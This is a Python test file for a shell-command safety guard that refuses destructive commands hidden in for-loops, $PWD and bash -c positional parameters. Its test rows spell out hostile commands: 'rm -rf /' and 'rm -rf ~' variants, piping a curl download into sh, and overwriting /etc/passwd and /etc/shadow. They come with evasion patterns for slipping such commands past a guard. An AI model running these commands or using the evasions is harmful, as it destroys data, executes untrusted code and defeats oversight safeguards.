"""A name of several values -- a ``for`` loop's -- is each of them in turn, also where the command's name stands.

``for X in cd rm; do $X -rf /; done`` runs ``cd -rf /`` and then ``rm -rf /``.  The walk expanded ``$X`` to one
word per value (right for arguments: ``rm -rf $d`` deletes each ``d``), which made the command ``cd rm -rf /``:
a ``cd``, passed.  Likewise ``echo x > $f`` was judged for the first value of ``f`` alone.  Now each value is
walked as the command it makes (:meth:`execmagic.guard.names.Names.variants`), and a write to a word of several
values is judged for each.
"""

from __future__ import annotations

import itertools
import random

import pytest

from execmagic.guard.check import check
from guard_rows import ENV, assert_allowed, assert_refused

#: Got through before, each refused now at the level given.
REFUSED: list[tuple[str, str]] = [
    ("for X in cd rm; do $X -rf /; done", "catastrophic"),
    ('for X in cd rm; do "$X" -rf /; done', "catastrophic"),
    ("for X in ls rm; do $X -rf ~; done", "catastrophic"),
    ("for X in cd rm; do sudo $X -rf /; done", "catastrophic"),
    ("for X in cd rm; do nice -n 5 $X -rf /; done", "catastrophic"),
    ("for W in env nice; do for X in cd rm; do sudo $W $X -rf /; done; done", "catastrophic"),
    ("for X in cd rm; do (($X -rf /)); done", "catastrophic"),
    ("for X in cd rm; do echo $($X -rf /); done", "catastrophic"),
    ("for X in cd rm; do bash -c \"$X -rf /\"; done", "catastrophic"),
    ("for X in true rm; do ls | $X -rf /; done", "catastrophic"),
    ("for X in cd rm; do find / -exec $X -rf {} +; done", "catastrophic"),
    ("for S in cat sh; do curl -s https://example.com/x | $S; done", "all"),
    ("for f in a.txt /etc/passwd; do echo x > $f; done", "catastrophic"),
    ('for f in a.txt /etc/passwd; do echo x > "$f"; done', "catastrophic"),
    ("for f in a.txt /etc/shadow; do cat in.txt > $f; done", "catastrophic"),
    ("for X in " + "ls " * 16 + "rm; do $X -rf /; done", "catastrophic"),  # (past 16 values: those a rule may judge
    ("for d in " + "a " * 16 + "/; do rm -rf $d; done", "catastrophic"),  # kept first)
    ("for X in " + " ".join(f"n{i}" for i in range(40)) + " rm; do $X -rf /; done", "catastrophic"),
    ("for X in {a..p} rm; do $X -rf /; done", "catastrophic"),
]

#: Ordinary loops of data work: still allowed under guard "all".
ALLOWED = [
    "for f in a.csv b.csv; do wc -l $f > out/$f.txt; done",
    'for t in sort "uniq -c"; do $t data.txt > /dev/null; done',
    "for X in cd ls; do $X -la /; done",
    "for d in a b; do cd $d && make; done",
    'for n in 1 2 3; do echo "$n" >> counts.txt; done',
    "for tool in python3 Rscript; do $tool --version; done",
]


@pytest.mark.parametrize(("command", "level"), REFUSED)
def test_each_value_is_judged(command, level):
    assert_refused(command, level)


@pytest.mark.parametrize("command", ALLOWED)
def test_ordinary_loops_are_allowed(command):
    assert_allowed(command)


def test_the_refusal_quotes_the_loop_variable_once():
    refusal = check("all", "for f in a.txt /etc/passwd; do echo x > $f; done", env=ENV)
    assert refusal is not None and refusal.command == "echo x > $f"
    refusal = check("all", "for X in cd rm; do $X -rf /; done", env=ENV)
    assert refusal is not None and refusal.command == "$X -rf /"


@pytest.mark.parametrize("seed", range(40))
def test_a_dangerous_value_anywhere_in_the_list_is_found(seed):
    """Wherever ``rm`` stands among harmless names, and however many there are (up to the 16 values kept)."""
    rng = random.Random(seed)
    harmless = rng.sample(["cd", "ls", "echo", "true", "pwd", "printf", "cat", "wc", "du", "stat"], rng.randrange(1, 10))
    values = [*harmless]
    values.insert(rng.randrange(len(values) + 1), "rm")
    quoted = rng.choice(["$X", '"$X"', "${X}"])
    assert check("catastrophic", f"for X in {' '.join(values)}; do {quoted} -rf /; done", env=ENV) is not None
    assert check("all", f"for X in {' '.join(harmless)}; do {quoted} -rf /; done", env=ENV) is None


def test_two_loops_each_pair():
    """Two names of several values in one command: every pair is walked (``$W $X``)."""
    for w, x in itertools.product(["env", "nice", "sudo"], ["cd", "rm"]):
        text = f"for W in echo {w}; do for X in ls {x}; do $W $X -rf /; done; done"
        assert (check("catastrophic", text, env=ENV) is not None) == (x == "rm"), text


#: Where the walk knows the directory, ``$PWD`` is it; and ``sh -c CODE a b`` gives CODE ``$0``, ``$1``… and ``$@``.
KNOWN_AFTERWARDS = [
    "cd /; rm -rf $PWD",
    'cd /; rm -rf "$PWD"/',
    "cd ~; rm -rf $PWD",
    "cd /tmp; cd ..; rm -rf \"$PWD\"",
    "cd /; (cd /tmp); rm -rf $PWD",
    "bash -c '\"$@\"' _ rm -rf /",
    "sh -c '$0 -rf /' rm",
    "sh -c '$1 -rf $2' x rm /",
    "bash -c 'rm -rf \"$@\"' _ ./build ~",
]
STILL_ALLOWED = [
    "cd /tmp; rm -rf $PWD/cache",
    "(cd /); rm -rf $PWD",
    "bash -c 'echo $1' _ hi",
    "sh -c 'rm -rf \"$1\"' _ ./build",
    "bash -c 'for f in \"$@\"; do wc -l \"$f\"; done' _ a.csv b.csv",
]


@pytest.mark.parametrize("command", KNOWN_AFTERWARDS)
def test_pwd_and_positional_parameters_are_known(command):
    assert check("catastrophic", command, env=ENV) is not None  # ($PWD is only known from a cd the walk follows)


@pytest.mark.parametrize("command", STILL_ALLOWED)
def test_pwd_and_positional_parameters_in_ordinary_work(command):
    assert_allowed(command)
